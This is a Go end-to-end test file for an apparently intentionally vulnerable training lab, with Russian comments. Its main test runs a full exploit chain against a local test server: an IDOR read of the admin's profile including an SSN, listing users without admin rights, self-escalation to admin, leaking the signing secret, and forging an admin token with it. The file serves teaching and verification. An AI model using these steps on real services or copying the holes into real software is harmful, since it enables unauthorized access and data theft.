package server

import (
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vulnlab/accesslab/internal/server/audit"
	"github.com/vulnlab/accesslab/internal/server/config"
	"github.com/vulnlab/accesslab/internal/server/storage/memory"
	"github.com/vulnlab/accesslab/internal/server/token"
	"github.com/vulnlab/accesslab/pkg/api"
)

func newTestServer(t *testing.T) *httptest.Server {
	t.Helper()

	logger := slog.New(slog.NewTextHandler(io.Discard, nil))

	cfg := &config.Config{}
	cfg.LoadDefaults()

	srv := httptest.NewServer(NewHandler(Deps{
		Logger:  logger,
		Store:   memory.New(),
		Codec:   token.NewCodec(cfg.Secret),
		Audit:   audit.NewRecorder(logger),
		Cfg:     cfg,
		Version: "test",
	}))
	t.Cleanup(srv.Close)

	return srv
}

func login(t *testing.T, srv *httptest.Server, username, password string) api.LoginResponse {
	t.Helper()

	body := `{"username":"` + username + `","password":"` + password + `"}`
	resp, err := http.Post(srv.URL+"/api/v1/auth/login", "application/json", strings.NewReader(body))
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	var out api.LoginResponse
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&out))
	return out
}

func doAuthed(t *testing.T, srv *httptest.Server, method, path, tok, body string) *http.Response {
	t.Helper()

	var rdr io.Reader
	if body != "" {
		rdr = strings.NewReader(body)
	}
	req, err := http.NewRequest(method, srv.URL+path, rdr)
	require.NoError(t, err)
	if tok != "" {
		req.Header.Set("Authorization", "Bearer "+tok)
	}

	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	return resp
}

// TestEndToEnd_ExploitChain прогоняет весь сценарий занятия против живого
// сервера: login обычным пользователем, чтение чужого профиля, полный список,
// самоэскалация до admin, чтение конфигурации с секретом, ковка токена на
// утекшем секрете и возврат стенда в исходное состояние.
func TestEndToEnd_ExploitChain(t *testing.T) {
	srv := newTestServer(t)

	// 1. Логин обычным пользователем
	session := login(t, srv, "john", "user123")
	assert.Equal(t, "user", session.User.Role)

	// 2. IDOR: чтение профиля admin (id=1) токеном john
	resp := doAuthed(t, srv, http.MethodGet, "/api/v1/users/1", session.Token, "")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	var adminUser api.User
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&adminUser))
	resp.Body.Close()
	assert.Equal(t, "admin", adminUser.Username)
	require.NotNil(t, adminUser.Profile)
	assert.Equal(t, "123-45-6789", adminUser.Profile.SSN)

	// 3. Полный список без admin-роли
	resp = doAuthed(t, srv, http.MethodGet, "/api/v1/users", session.Token, "")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	var all []api.User
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&all))
	resp.Body.Close()
	assert.Len(t, all, 4)

	// 4. Самоэскалация: john назначает себе admin и получает новый токен
	resp = doAuthed(t, srv, http.MethodPut, "/api/v1/users/2/role", session.Token, `{"role":"admin"}`)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	var roleResp api.ChangeRoleResponse
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&roleResp))
	resp.Body.Close()
	require.NotEmpty(t, roleResp.NewToken)

	// 5. System info с утечкой секрета, уже admin-токеном
	resp = doAuthed(t, srv, http.MethodGet, "/api/v1/system/info", roleResp.NewToken, "")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	var info api.SystemInfoResponse
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&info))
	resp.Body.Close()
	assert.Equal(t, config.DefaultSecret, info.SecretKey)

	// 6. Ковка токена на утекшем секрете принимается сервером
	forgedCodec := token.NewCodec(info.SecretKey)
	forged, err := forgedCodec.Issue(1, "admin", "admin@demo.com", "admin")
	require.NoError(t, err)

	resp = doAuthed(t, srv, http.MethodGet, "/api/v1/users/3", forged, "")
	assert.Equal(t, http.StatusOK, resp.StatusCode)
	resp.Body.Close()

	// 7. Reset возвращает seed-состояние
	resp = doAuthed(t, srv, http.MethodPost, "/api/v1/debug/reset", "", "")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	resp.Body.Close()

	session = login(t, srv, "john", "user123")
	assert.Equal(t, "user", session.User.Role, "reset must undo the escalation")
}

func TestEndToEnd_TokenGate(t *testing.T) {
	srv := newTestServer(t)

	// Без токена — 401
	resp, err := http.Get(srv.URL + "/api/v1/users")
	require.NoError(t, err)
	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	resp.Body.Close()

	// С мусорным токеном — 403
	resp = doAuthed(t, srv, http.MethodGet, "/api/v1/users", "garbage", "")
	assert.Equal(t, http.StatusForbidden, resp.StatusCode)
	resp.Body.Close()

	// Health живет без токена
	resp, err = http.Get(srv.URL + "/api/v1/health")
	require.NoError(t, err)
	assert.Equal(t, http.StatusOK, resp.StatusCode)
	resp.Body.Close()
}

func TestEndToEnd_DebugDisabled(t *testing.T) {
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))

	cfg := &config.Config{}
	cfg.LoadDefaults()
	cfg.Debug = false

	srv := httptest.NewServer(NewHandler(Deps{
		Logger:  logger,
		Store:   memory.New(),
		Codec:   token.NewCodec(cfg.Secret),
		Audit:   audit.NewRecorder(logger),
		Cfg:     cfg,
		Version: "test",
	}))
	defer srv.Close()

	resp, err := http.Post(srv.URL+"/api/v1/debug/reset", "application/json", nil)
	require.NoError(t, err)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
	resp.Body.Close()
}
